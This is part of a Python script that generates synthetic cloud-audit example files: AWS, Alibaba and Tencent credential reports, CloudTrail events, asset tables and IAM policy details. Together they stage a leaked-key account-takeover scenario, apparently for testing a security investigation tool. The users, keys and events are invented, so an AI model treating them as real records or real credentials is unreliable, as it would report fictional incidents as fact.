             key("true", "2019-04-02T08:20:00", f"{REPORT_DAY}T04:00:00", "us-east-1", "iam")),
        line("alice", "2023-02-01T09:00:00", password(f"{DAYS[0]}T08:55:00", "2026-08-03T07:10:00"), "true"),
        line("bob", "2023-02-01T09:05:00", password(f"{DAYS[0]}T13:30:00", "2026-03-02T08:00:00"), "true"),
        line("dave", "2024-05-06T09:00:00", password("2026-09-18T08:12:00", "2026-08-20T06:40:00"), "false",
             key("true", "2026-03-02T10:00:00", "2026-09-28T16:20:00", "eu-west-1", "s3")),
        line("backup-sync", "2024-11-12T11:00:00", no_password, "false",
             key("true", "2024-11-12T11:02:00", "2026-07-01T18:00:00", "eu-west-1", "s3")),
        line("ci-artifacts", "2023-05-01T07:00:00", no_password, "false",
             key("true", "2025-02-01T12:00:00", f"{DAYS[0]}T15:15:00", "eu-west-1", "s3"),
             key("false", "2023-05-01T07:01:00", "2025-02-02T08:00:00", "eu-west-1", "s3")),
    )


def iam_audit():
    """The audit of all AWS accounts, a row a key, and the events about users that belong to it."""
    header = ["account_id", "account_name", "username", "password_status", "password_last_used", "access_key_id", "status", "created_date", "last_used_date", "service_name", "mfa_status"]
    prod, sandbox_account = [PROD, "production"], [SANDBOX, "sandbox"]
    none, never = "No configurada", "Nunca"
    yield f"reports/iam-audit/iam_audit_report_{REPORT_STAMP}.csv", rows(
        header,
        [*prod, "backup-sync", none, never, LEAKED, "Active", "2024-11-12 11:02:00+00:00", "2026-07-01 18:04:00+00:00", "s3", "None"],
        [*prod, "ci-artifacts", none, never, CI_KEY, "Active", "2025-02-01 12:00:00+00:00", f"{DAYS[0]} 15:21:00+00:00", "s3", "None"],
        [*prod, "ci-artifacts", none, never, CI_OLD_KEY, "Inactive", "2023-05-01 07:01:00+00:00", "2025-02-02 08:05:00+00:00", "s3", "None"],
        [*prod, "dave", "Configurada", "2026-09-18 08:12:00+00:00", DAVE_KEY, "Active", "2026-03-02 10:00:00+00:00", "2026-09-28 16:31:00+00:00", "s3", "None"],
        [*sandbox_account, "carol", "Configurada", f"{DAYS[0]} 12:58:00+00:00", CAROL_KEY, "Active", "2026-08-20 09:00:00+00:00", f"{DAYS[0]} 13:44:00+00:00", "logs", "Virtual"],
    )
    header = ["eventTime", "eventName", "username", "account_id", "account_name", "resources"]
    made = [f"{DAYS[2]} 02:27:{second:02}+00:00" for second in (0, 44)]
    yield "reports/iam-audit/cloudtrail_events_20261008_060000.csv", rows(
        header,
        [f"{DAYS[1]} 10:30:00+00:00", "DeleteAccessKey", "alice", *prod, f"{DAVE_KEY}, dave"],
        [f"{DAYS[1]} 10:31:00+00:00", "DeleteLoginProfile", "alice", *prod, "dave"],
        [made[0], "CreateUser", "backup-sync", *prod, HELPER],
        [made[1], "CreateAccessKey", "backup-sync", *prod, f"{PLANTED}, {HELPER}"],
        [f"{DAYS[2]} 14:20:00+00:00", "DeleteUser", "alice", *prod, "dave"],
    )


def alibaba_report():
    """GenerateCredentialReport of the Alibaba Cloud account."""
    header = ["user", "user_creation_time", "user_last_logon", "password_exist", "password_active", "password_last_changed", "password_next_rotation", "mfa_active"]
    slots = ["access_key_1", "access_key_2", *(f"additional_access_key_{slot}" for slot in (1, 2, 3))]
    header += [f"{slot}_{name}" for slot in slots for name in ("exist", "active", "last_rotated", "last_used")]
    none = ["FALSE", "N/A", "N/A", "N/A"]

    def line(name, created, login, *keys):
        return [name, created, *login, *(cell for key in keys for cell in key), *(none * (5 - len(keys)))]

    no_console = ["LOGIN_DISABLED", "LOGIN_DISABLED", "LOGIN_DISABLED", "N/A", "N/A", "LOGIN_DISABLED"]
    yield f"reports/alibaba/credential-report_{REPORT_STAMP}.csv", rows(
        header,
        line("<root>", "2021-06-01T02:00:00Z", ["2026-08-30T03:10:00Z", "TRUE", "N/A", "2026-01-05T02:00:00Z", "N/A", "TRUE"]),
        line("alice@example.onaliyun.com", "2024-05-20T02:41:17Z", [f"{DAYS[0]}T03:01:00Z", "TRUE", "TRUE", "2026-08-03T07:15:00Z", "-", "TRUE"]),
        line("bob@example.onaliyun.com", "2024-05-20T02:45:00Z", ["2025-11-03T06:20:00Z", "TRUE", "TRUE", "2025-10-30T06:00:00Z", "-", "FALSE"]),
        line("report-export@example.onaliyun.com", "2024-09-01T03:00:00Z", no_console, ["TRUE", "TRUE", "2024-09-01T03:01:00Z", "2026-06-30T01:12:45Z"]),
    )


def tencent_report():
    """The user credential report of the Tencent Cloud account; its times are Beijing's."""
    names = ["SecretId", "MayBeAtRisk", "CreationTime", "Status", "lastUsedDate", "CreatedOver90Days", "CreatedOver30Days"]
    header = ["Account ID", "Username", "UserType", "CreationTime", "PasswordEnabled", "PasswordLastRotation", "LoginConsoleActive"]
    header += ["LoginProtectionActive", "OperationProtectionActive", "MFADeviceActive", "Abnormal LoginsNumWithin30Days"]
    header += [f"AccessKey{slot}{name}" for slot in (1, 2) for name in names] + ["Last Console Login Time"]
    none = ["N/A"] * 7
    yield f"reports/tencent/credential-report_{REPORT_STAMP}.csv", rows(
        header,
        ["100000000011", "grace", "Sub-user", "2024-03-01 10:00:00", "TRUE", "2026-08-10 9:00:00", "TRUE", "FALSE", "FALSE", "FALSE", "TRUE", *none, *none, f"{DAYS[0]} 17:40:12"],
        ["100000000012", "storefront-deploy", "Sub-user", "2025-12-01 14:00:00", "FALSE", "FALSE", "FALSE", "FALSE", "FALSE", "FALSE", "FALSE",
         DEPLOY_KEY, "FALSE", "2025-12-01 14:05:00", "Active", f"{DAYS[0]} 23:10:00", "TRUE", "TRUE", *none, "not_supported"],
        ["100000000013", "partner", "Collaborator", "2026-09-15 11:00:00", "not_supported", "not_supported", "not_supported", "TRUE", "TRUE", "TRUE", "FALSE",
         "AKIDPartnerOfTheCampaignEXAMPLE00001", "TRUE", "2026-09-15 11:05:00", "Active", "2026-09-30 8:00:00", "FALSE", "FALSE", *none, "N/A"],
    )


# What the organisation knows about its accounts, addresses and keys


def tables():
    def csv(name, *lines):
        return f"tables/{name}.csv", rows(*lines)

    yield "tables/accounts.yaml", "".join(
        f'- {{ account: "{account}", name: {name}, env: {env}, provider: {provider}, owner: {owner} }}\n'
        for account, name, env, provider, owner in [
            (PROD, "production", "prod", "aws", "platform"), (SANDBOX, "sandbox", "test", "aws", "platform"),
            (ALIBABA, "reporting", "prod", "alibaba", "finance"), (TENCENT, "storefront", "prod", "tencent", "shop"),
        ]
    )
    yield csv("ip_assets", ["IP", "ID", "Name", "Account"], ["203.0.113.0/26", "", "office Utrecht", ""], [CI + "/32", "eipalloc-0a1b2c3d", "build runners", PROD],
              [BILLING, "", "billing server", ""], ["2001:db8:40::/48", "vpc-00aa11bb", "build runners", PROD])
    yield csv("ip_notes", ["ip", "remark"], [CI, "Terraform deploys from here"], ["192.0.2.128/28", "penetration test, agreed until the end of the quarter"])
    yield "tables/ak_notes.json", json.dumps([
        {"ak": LEAKED, "remark": "backup-sync; its job was moved to a role in July"},
        {"ak": ROOT_KEY, "remark": "billing script of 2019; to be deleted"},
    ], indent=2) + "\n"
    yield "tables/key_policies.yaml", (
        f"- ak: {LEAKED}\n  name: [backup-write, IAMFullAccess]\n"
        f"- ak: {DEPLOY_KEY}\n  name: [storefront-deploy]\n"
        "  document: '{\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"s3:PutObject\",\"Resource\":\"arn:aws:s3:::storefront-assets/*\"}]}'\n"
    )
    yield csv("key_usage", ["AK", "Last Used"], [LEAKED, "2026-07-01T18:04:00Z"], [ALIBABA_KEY, "2026-06-30T01:12:45Z"], [TENCENT_KEY, "2026-10-01T03:11:00Z"])
    yield csv("leaked_keys", ["AK", "Source", "Found", "Note"],
              [LEAKED, "secret scanning, example-corp/migration-scripts", f"{DAYS[2]}T18:20:00Z", "committed with an old backup script"],
              [ALIBABA_KEY, "mail of the provider", f"{DAYS[2]}T09:00:00Z", ""])
    yield csv("scheduled_deletions", ["AK", "Due", "Ticket", "Owner"], [CI_OLD_KEY, "2026-11-30T00:00:00Z", "SEC-141", "platform"], [ROOT_KEY, "2027-01-15T00:00:00Z", "SEC-152", "finance"])
    yield csv("identities", ["User ID", "User", "Created"], [ident("AIDA", "backup-sync"), "backup-sync", "2024-11-12T11:00:00Z"],
              ["281234567890123411", "alice", "2024-05-20T02:41:17Z"], ["100000000012", "storefront-deploy", "2025-12-01T06:00:00Z"])
    yield csv("cloud_managers", ["cidr", "product"], ["198.51.100.64/28", "bastion of the outsourced operators"], ["2001:db8:77::/48", "cost report"])
    yield "tables/privileges.json", json.dumps([
        {"holder": f"aws/{PROD}/user/backup-sync", "policies": ["backup-write", "IAMFullAccess"], "granted": 185, "used": 6,
         "administrator": False, "administrated": True, "permission_actions": 57, "unused_services": ["kms"], "days": 120, "early": False},
        {"holder": f"alibaba/{ALIBABA}/user/report-export", "policies": ["AliyunOSSReadOnlyAccess"], "granted": None, "used": 2,
         "administrator": False, "administrated": False, "permission_actions": 0, "unused_services": [], "days": 120, "early": False},
    ], indent=2) + "\n"
    yield csv("signin_countries", ["ip", "country"], ["203.0.113.0/24", "NL"], ["198.51.100.0/24", "BR"])
    yield csv("shared_roles", ["role", "remark"], ["on-call", "people on call take turns"])


def attached():
    """The answer of `aws iam get-account-authorization-details` in the production account."""
    def policy(*statements):
        return {"Version": "2012-10-17", "Statement": [
            {"Effect": "Allow", "Action": actions, "Resource": resource} for actions, resource in statements]}

    def managed(name, document):
        arn = f"arn:aws:iam::aws:policy/{name}"
        version = {"Document": document, "VersionId": "v1", "IsDefaultVersion": True, "CreateDate": "2023-01-01T00:00:00+00:00"}
        return {"PolicyName": name, "PolicyId": ident("ANPA", name), "Arn": arn, "DefaultVersionId": "v1", "PolicyVersionList": [version]}

    def uses(*names):
        return [{"PolicyName": name, "PolicyArn": f"arn:aws:iam::aws:policy/{name}"} for name in names]

    def user(name, *, inline=(), groups=(), policies=()):
        return {"Path": "/", "UserName": name, "UserId": ident("AIDA", name), "Arn": f"arn:aws:iam::{PROD}:user/{name}",
                "UserPolicyList": [{"PolicyName": own, "PolicyDocument": document} for own, document in inline],
                "GroupList": list(groups), "AttachedManagedPolicies": uses(*policies)}

    def role(name, *, inline=(), policies=()):
        return {"Path": "/", "RoleName": name, "RoleId": ident("AROA", name), "Arn": f"arn:aws:iam::{PROD}:role/{name}",
                "RolePolicyList": [{"PolicyName": own, "PolicyDocument": document} for own, document in inline],
                "AttachedManagedPolicies": uses(*policies)}

    details = {
        "UserDetailList": [
            user("alice", groups=["admins"]),
            user("backup-sync", policies=["IAMFullAccess"], inline=[("backup-write", policy((["s3:PutObject", "s3:ListBucket"], "*")))]),
            user("ci-artifacts", inline=[("artifacts", policy(("s3:*", "arn:aws:s3:::example-corp-artifacts*"), (["sqs:SendMessage", "sns:Publish"], "*")))]),
        ],
        "GroupDetailList": [{"Path": "/", "GroupName": "admins", "GroupId": ident("AGPA", "admins"), "Arn": f"arn:aws:iam::{PROD}:group/admins",
                             "GroupPolicyList": [], "AttachedManagedPolicies": uses("AdministratorAccess")}],
        "RoleDetailList": [
            role("metrics-reader", inline=[("read", policy((["cloudwatch:ListMetrics", "ec2:DescribeInstances", "rds:DescribeDBInstances"], "*")))]),
            role("migration", policies=["AdministratorAccess"]),
            role("terraform-deploy", policies=["AdministratorAccess"]),
        ],
        "Policies": [managed("AdministratorAccess", policy(("*", "*"))), managed("IAMFullAccess", policy((["iam:*", "organizations:DescribeAccount"], "*")))],
    }
    yield "attached/account-authorization-details.json", json.dumps(details, indent=4) + "\n"


def compact(value):
    return json.dumps(value, separators=(",", ":"))


def stored(path):
    data = path.read_bytes()
    return (gzip.decompress(data) if path.suffix == ".gz" else data).decode()


def main():
    aws = [*delivered(), digest_file(), lookup_page(), ndjson_export(), eventbridge()]
    files = [*((f"cloudtrail/{path}", text) for path, text in aws), takeover_file(), *actiontrail(), *cloudaudit()]
    files += [*aws_report(), *iam_audit(), *alibaba_report(), *tencent_report(), *tables(), *attached()]
    wanted = {ROOT / path: text for path, text in files}
    there = {path for folder in FOLDERS for path in (ROOT / folder).rglob("*") if path.is_file()}
    if "--check" in sys.argv[1:]:
        # Contents are compared, not compressed bytes: those depend on the version of zlib.
        stale = sorted(str(p.relative_to(ROOT)) for p in there ^ set(wanted))
        stale += [str(p.relative_to(ROOT)) for p in sorted(there & set(wanted)) if stored(p) != wanted[p]]
        if stale:
            sys.exit("not what examples/generate.py writes; run it:\n  " + "\n  ".join(stale))
        return
    for path in there - set(wanted):
        path.unlink()
    for path, text in wanted.items():
        path.parent.mkdir(parents=True, exist_ok=True)
        data = text.encode()
        path.write_bytes(gzip.compress(data, mtime=0) if path.suffix == ".gz" else data)


if __name__ == "__main__":
    main()
